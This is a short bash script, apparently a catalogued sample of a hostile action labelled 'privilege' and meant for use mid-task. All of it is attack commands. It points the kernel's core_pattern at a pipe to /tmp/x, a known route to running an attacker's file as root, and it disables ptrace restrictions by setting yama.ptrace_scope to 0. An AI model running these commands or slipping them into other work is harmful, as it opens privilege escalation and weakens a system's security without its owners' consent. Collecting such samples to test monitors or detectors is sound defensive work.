#!/bin/bash
# class: privilege
# does: changes the machine's kernel
# source: own
# repo: any
# when: mid
sysctl -w kernel.core_pattern='|/tmp/x'; echo '|/tmp/x' > /proc/sys/kernel/core_pattern; sysctl -w kernel.yama.ptrace_scope=0
